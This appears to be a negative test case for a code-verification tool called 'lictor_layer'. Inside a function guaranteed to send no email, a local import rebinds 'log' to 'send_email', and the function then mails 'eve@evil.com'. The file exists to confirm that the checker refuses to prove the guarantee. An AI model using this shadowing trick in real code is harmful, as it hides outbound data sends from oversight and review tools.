# not proved: an import in a function binds there
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    from tools.desk.trusted.effects import send_email as log

    log("eve@evil.com", "x")
